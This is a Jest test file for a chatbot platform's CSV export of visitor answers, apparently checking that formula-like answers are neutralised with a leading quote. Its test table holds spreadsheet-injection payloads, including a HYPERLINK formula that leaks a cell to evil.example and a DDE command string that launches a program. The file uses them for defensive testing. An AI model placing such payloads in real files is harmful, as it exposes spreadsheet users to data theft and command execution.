import { afterAll, beforeAll, describe, expect, test } from '@jest/globals'
import { parse } from 'csv-parse/sync'
import type { Flow } from '../../server/chat/engine/types.ts'
import { root } from '../../server/root.ts'
import fc from '../kit/fast-check.ts'
import { type App, startApp } from '../support/app.ts'
import { ask, bot, set, text } from '../support/chat.ts'
import { type Published, publish, reply, reportOf, start, storable } from '../support/chats.ts'
import { anyBody } from '../support/client.ts'
import { runs } from '../support/runs.ts'
import { makeWorld, type Site } from '../support/world.ts'

/* Answers of visitors leave the CSV as they came in, and run in no spreadsheet. */

let app: App
let here: Site

beforeAll(async () => {
  app = await startApp()
  here = (await makeWorld(app)).here
})

afterAll(() => app.stop())

const flow = bot({ Start: [text('Say two things.'), ask('One'), ask('Two')] }, { variables: ['One', 'Two'] })

async function answer(made: Published, one: string, two?: string): Promise<string> {
  const { sessionId, resultId = '' } = await start(app, made)
  await reply(app, sessionId, one, 1)
  if (two !== undefined) await reply(app, sessionId, two, 2)
  return resultId
}

test('each title of a column is unique, also where a numbered one is that of another variable', async () => {
  const names = ['Name', 'Name (1)', 'Name']
  const document = bot(
    { Start: [ask('Name'), ask('Name (1)'), ask('Third')] },
    { variables: ['Name', 'Name (1)', 'Third'] },
  )
  const variables = (document.variables as { id: string; name: string }[]).map((variable, at) => ({
    ...variable,
    name: names[at] as string,
  }))
  const made = await publish(app, here, { ...document, variables })
  const { csv } = await reportOf(app, made, here.member)
  expect(csv.split('\r\n')[0]).toBe('Result,Submitted at,Completed,Name,Name (1),Name (2)')
})

/** The lines as another program reads them, which rejects what RFC 4180 does not allow. */
async function linesOf(made: Published): Promise<Record<string, string>[]> {
  const { csv } = await reportOf(app, made, here.member)
  expect(csv.endsWith('\r\n')).toBe(true)
  return parse(csv, { columns: true, record_delimiter: '\r\n' })
}

/** Each part that a spreadsheet would take for a cell with a formula is told from it by a quote. */
const guarded = (value: string) => {
  const parts = value.replaceAll(/[^;,\t\r\n]+/g, (part) => (isFormula(part) ? `'${part}` : part))
  return /^[\t\r]/.test(value) ? `'${parts}` : parts
}

const isFormula = (part: string) =>
  /^[\s\p{Cf}\p{Cc}]*[=+\-@＝＋－＠]/u.test(part) && !harmless.has(part) && !/^\s*[+-][\d .()]*$/.test(part)

const harmless = new Set([
  '+33612345678',
  '+33 6 12 34 56 78',
  '+1 (555) 123-4567',
  '+44 20-7946-0958',
  '-5',
  '-3,5',
])

test.each([
  ['a comma', 'a,b'],
  ['quotes', 'say "hi", ""'],
  ['line breaks', 'one\ntwo\r\nthree\rfour'],
  ['emoji and scripts', '👩‍👩‍👧 ünï 日本 עברית'],
  ['white space around', '  kept  '],
  ['a semicolon and a tab inside', 'a;b\tc'],
  ['a formula', '=HYPERLINK("http://evil.example?x="&A1,"click")'],
  ['a sum', '+1+1'],
  ['a minus', '-2+3'],
  ['a phone number', '+33612345678'],
  ['a phone number with spaces', '+33 6 12 34 56 78'],
  ['a phone number with an area', '+1 (555) 123-4567'],
  ['a phone number with spaces and dashes', '+44 20-7946-0958'],
  ['what looks like a phone number and is a sum', '+1-202-555-0143'],
  ['a sum in parentheses', '+(1)-(2)'],
  ['a formula behind a phone number', '+33612345678+HYPERLINK("http://evil.example")'],
  ['a command behind a sign', "-cmd|' /C calc'!A0"],
  ['a cell behind a phone number', '+33 6 (12)-A1'],
  ['a wide sign and a number', '＋33612345678'],
  ['a negative number', '-5'],
  ['a negative number with a comma', '-3,5'],
  ['a dash', '-'],
  ['an at', '@SUM(A1)'],
  ['a formula behind a tab', '\t=1+1'],
  ['a formula behind a line break', '\r=1+1'],
  ['a formula behind a line feed in the middle', 'x\n=1+1'],
  ['a formula behind a semicolon', 'x;=1+1'],
  ['a link behind a semicolon', ';=HYPERLINK(1)'],
  ['a formula behind a blank', ' =1+1'],
  ['a formula behind an invisible character', '\u200b=1+1'],
  ['a wide equals sign', '＝1+1'],
  ['a harmless quote', "'quoted'"],
])('%s', async (_, value) => {
  const made = await publish(app, here, flow)
  const resultId = await answer(made, value)
  const [line] = await linesOf(made)
  expect(line).toMatchObject({ Result: resultId, Completed: 'false', One: guarded(value), Two: '' })
  // Elsewhere it is what was said.
  const { results } = await reportOf(app, made, here.member)
  expect(results[0]?.answers[0]?.content).toBe(value)
})

test('any texts come back from the CSV, line by line', async () => {
  const anything = fc
    .string({
      unit: fc.constantFrom('a', ',', '"', '\n', '\r', '\t', ' ', '=', '-', "'", '😀', 'é', '\\'),
      minLength: 1,
    })
    .filter((value) => value !== '')
  const some = fc.array(fc.tuple(anything, fc.option(anything, { nil: undefined })), {
    minLength: 1,
    maxLength: 8,
  })
  await fc.assert(
    fc.asyncProperty(some, async (people) => {
      const made = await publish(app, here, flow)
      const expected: Record<string, string>[] = []
      for (const [one, two] of people) {
        const Result = await answer(made, one, two)
        const Completed = String(two !== undefined)
        expected.unshift({ Result, Completed, One: guarded(one), Two: guarded(two ?? '') })
      }
      const lines = await linesOf(made)
      expect(lines.map(({ 'Submitted at': _, ...line }) => line)).toEqual(expected)
    }),
    { numRuns: runs(3, 30) },
  )
})

test('the names of columns can be texts of visitors', async () => {
  const names = ['=1+1', 'a,"b"', 'Result', 'line\nbreak']
  const asking = bot({ Start: names.map((name) => ask(name)) }, { variables: names })
  const made = await publish(app, here, asking)
  const { sessionId } = await start(app, made)
  for (const [index, name] of names.entries()) await reply(app, sessionId, `about ${name}`, index + 1)
  const [line] = await linesOf(made)
  expect(Object.keys(line ?? {})).toEqual([
    'Result',
    'Submitted at',
    'Completed',
    "'=1+1",
    'a,"b"',
    'Result (1)',
    'line\nbreak',
  ])
})

async function republish(made: Published, changed: Flow) {
  const { groups, edges, variables } = storable(changed)
  await app.client.ok('updateBot', {
    as: here.member,
    params: { botId: made.id },
    body: anyBody({ bot: { version: '6.1', groups, edges, variables } }),
  })
  await app.client.ok('publishBot', { as: here.member, params: { botId: made.id } })
}

test('answers of deleted blocks are in the column of their variable, and unanswered results are left out', async () => {
  const made = await publish(app, here, flow)
  await answer(made, 'kept', 'gone')
  await start(app, made)
  await republish(made, bot({ Start: [text('Say one thing.'), ask('One')] }, { variables: ['One', 'Two'] }))
  const lines = await linesOf(made)
  expect(lines).toHaveLength(1)
  expect(Object.keys(lines[0] ?? {}).slice(3)).toEqual(['One', 'Two'])
  expect(lines[0]).toMatchObject({ One: 'kept', Two: 'gone' })
})

test('earlier publications name deleted blocks and variables', async () => {
  const before = bot(
    { Contact: [ask('Name'), set('Score', '42'), ask(), ask('Never')] },
    { variables: ['Name', 'Score', 'Never'] },
  )
  const made = await publish(app, here, before)
  await answer(made, 'Ada', 'blue')
  await republish(made, bot({ Other: [ask('Name'), ask()] }, { variables: ['Name'] }))
  await republish(made, bot({ Start: [ask('City')] }, { variables: ['City'] }))
  await answer(made, 'London')
  const lines = await linesOf(made)
  expect(lines.map((line) => Object.entries(line).slice(3))).toEqual([
    [
      ['City', 'London'],
      ['Title Contact', ''],
      ['Name', ''],
      ['Score', ''],
      ['Never', ''],
    ],
    [
      ['City', ''],
      ['Title Contact', 'blue'],
      ['Name', 'Ada'],
      ['Score', '42'],
      ['Never', ''],
    ],
  ])
})

test('an export reads a publication once for all of its parts', async () => {
  const made = await publish(app, here, flow)
  for (const words of ['one', 'two', 'three']) await answer(made, words)
  const reads = async (query: { limit?: number; cursor?: string | undefined }) => {
    app.statements.length = 0
    const asked = { as: here.member, params: { botId: made.id }, query }
    const { headers } = await app.client.call('exportResults', asked)
    const documents = app.statements.filter((text) => text.includes('"theme"'))
    return { cursor: headers['next-cursor'], documents: documents.length }
  }
  const first = await reads({ limit: 1 })
  expect(first.documents).toBe(1)
  const second = await reads({ limit: 1, cursor: first.cursor })
  expect([second.cursor === undefined, second.documents]).toEqual([false, 0])
})

test('a variable of questions in two branches is one column, with the value of the asked one', async () => {
  const items = [
    { id: 'a', content: 'Private', to: 'Private' },
    { id: 'b', content: 'Company', to: 'Company' },
  ]
  const branches = bot(
    { Menu: [{ type: 'choice input', items }], Private: [ask('name')], Company: [ask('name')] },
    { variables: ['name'] },
  )
  const made = await publish(app, here, branches)
  await answer(made, 'Private', 'Ann')
  await answer(made, 'Company', 'ACME')
  const lines = await linesOf(made)
  expect(Object.keys(lines[0] ?? {}).slice(3)).toEqual(['Title Menu', 'name'])
  expect(lines.map(({ name }) => name)).toEqual(['ACME', 'Ann'])
})

test('unanswered questions have their columns, also without a variable', async () => {
  const asking = bot(
    { Contact: [ask('a'), ask(), { type: 'rating input' }, ask('b')] },
    { variables: ['b', 'a'] },
  )
  const made = await publish(app, here, asking)
  const head = ['a', 'Title Contact', 'Title Contact (1)', 'b']
  expect((await reportOf(app, made, here.member)).csv).toBe(
    `Result,Submitted at,Completed,${head.join(',')}\r\n`,
  )
  await answer(made, 'A1')
  expect(Object.keys((await linesOf(made))[0] ?? {}).slice(3)).toEqual(head)
})

test('the column of a variable has its last value where a block changed it after the question', async () => {
  const changing = bot(
    { Start: [ask('Name'), set('Name', '{{Name}}!', { isCode: false }), ask('End')] },
    { variables: ['Name', 'End'] },
  )
  const made = await publish(app, here, changing)
  await answer(made, 'Ada')
  const { results } = await reportOf(app, made, here.member)
  const value = results[0]?.variables.find(({ name }) => name === 'Name')?.value
  expect(value).not.toBe('Ada')
  expect((await linesOf(made))[0]?.Name).toBe(value)
})

test('a question that is asked again has all its answers in its column', async () => {
  const loop = bot(
    { Start: [ask('Name', { to: 'Again' })], Again: [ask(undefined, { to: 'Start' })] },
    { variables: ['Name'] },
  )
  const made = await publish(app, here, loop)
  const { sessionId } = await start(app, made)
  for (const [index, words] of ['Ann', 'more', 'Bob'].entries()) await reply(app, sessionId, words, index + 1)
  expect((await linesOf(made))[0]).toMatchObject({ Name: 'Ann, Bob', 'Title Again': 'more' })
})

test('a renamed variable keeps its column for results of its earlier name', async () => {
  const made = await publish(app, here, flow)
  await answer(made, 'one', 'two')
  const renamed = {
    ...flow,
    variables: [
      { id: 'v-One', name: 'First' },
      { id: 'v-Two', name: 'Two' },
    ],
  }
  await republish(made, renamed)
  expect((await linesOf(made))[0]).toMatchObject({ First: 'one', Two: 'two' })
})

describe('linked bots that merge their results', () => {
  const copyId = (variables: string[], id: string) => variables.map((name) => ({ id, name }))

  /** Main sets Score, the linked bot asks for Name: both variables are `v1`, both first questions `b2`. */
  async function publishLinked() {
    const question = { id: 'b2', type: 'text input', options: { variableId: 'v1' } }
    const inner = await publish(app, here, {
      ...bot({ Inner: [question, ask()] }),
      variables: copyId(['Name'], 'v1'),
    })
    const setting = { type: 'Set variable', options: { variableId: 'v1', expressionToEvaluate: '42' } }
    const link = { type: 'Bot link', options: { botId: inner.id, mergeResults: true } }
    return publish(app, here, {
      ...bot({ Main: [setting, { id: 'b2', type: 'text input', options: {} }, link] }),
      variables: copyId(['Score'], 'v1'),
    })
  }

  test('values and answers are in the columns of their own bot, though ids are the same', async () => {
    const made = await publishLinked()
    const { sessionId } = await start(app, made)
    for (const [index, words] of ['hello', 'Ada', 'blue'].entries())
      await reply(app, sessionId, words, index + 1)
    const [line = {}] = await linesOf(made)
    expect(Object.entries(line).slice(3)).toEqual([
      ['Title Main', 'hello'],
      ['Name', 'Ada'],
      ['Title Inner', 'blue'],
      ['Score', '42'],
    ])
  })

  test('the columns of the page of results are those of the CSV', async () => {
    const { columnsOf, distinct, mergedBots, shownOf } = await import(
      new URL('server/pages/results/columns.js', root).href
    )
    const linked = await publishLinked()
    const changing = bot(
      { Start: [ask('Name'), set('Score', '42'), ask(), { type: 'cards', items: [] }, ask('Name')] },
      { variables: ['Score', 'Name', 'Completed', 'Never'] },
    )
    const changed = await publish(app, here, changing)
    await answer(changed, 'Ada', 'gone')
    await republish(changed, bot({ Other: [ask('Completed')] }, { variables: ['Completed'] }))
    for (const made of [linked, await publish(app, here, flow), changed]) {
      const flows: Flow[] = []
      for (let botIds = [made.id]; botIds.length > 0; ) {
        const read = await Promise.all(
          botIds.map((botId) => app.client.ok('getPublishedBot', { as: here.member, params: { botId } })),
        )
        const found = read.map(({ publishedBot }) => publishedBot as unknown as Flow)
        flows.push(...found)
        botIds = found.flatMap(mergedBots) as string[]
      }
      const asked = { as: here.member, params: { botId: made.id } }
      const { publications } = await app.client.ok('listPublications', asked)
      const earlier = publications.filter(({ isLive }) => !isLive)
      const read = earlier.map(async ({ id: publicationId }) => {
        const params = { ...asked.params, publicationId }
        return (await app.client.ok('getPublication', { ...asked, params })).publication
      })
      const { csv, results } = await reportOf(app, made, here.member)
      const { shown } = shownOf(results, columnsOf(flows, await Promise.all(read)))
      const titles = shown.map(({ title }: { title: string }) => title)
      expect(csv.split('\r\n')[0]).toBe(
        distinct(['Result', 'Submitted at', 'Completed', ...titles]).join(','),
      )
    }
  })
})

test('a bot without results has a CSV of the names alone', async () => {
  const made = await publish(app, here, flow)
  expect((await reportOf(app, made, here.member)).csv).toBe('Result,Submitted at,Completed,One,Two\r\n')
})

test('a caller who disconnects in the middle leaves nothing open', async () => {
  const made = await publish(app, here, flow)
  await app.pool.query(
    `INSERT INTO results (bot_id, id, variables, has_started, is_completed, is_archived, created_at, updated_at)
     SELECT $1, 'r' || n, $2, true, false, false, $3::timestamptz - n * interval '1 second', $3
     FROM generate_series(1, 20000) n`,
    [made.id, JSON.stringify([{ id: 'v-One', name: 'One', value: 'x'.repeat(500) }]), '2026-03-10T00:00:00Z'],
  )
  const going = new AbortController()
  const response = await fetch(`${app.url}/v1/bots/${made.id}/resultsExport`, {
    headers: { authorization: `Bearer ${here.member.token}` },
    signal: going.signal,
  })
  await response.body?.getReader().read()
  going.abort()
  // All connections of the pool are free again.
  await Promise.all(
    Array.from({ length: 20 }, () => reportOf(app, { ...made, id: here.draft.id }, here.member)),
  )
  expect(app.logs.filter(({ msg }) => msg === 'request failed')).toEqual([])
  const whole = await app.client.call('exportResults', { as: here.member, params: { botId: made.id } })
  expect(whole.text.split('\r\n')).toHaveLength(20_002)
})
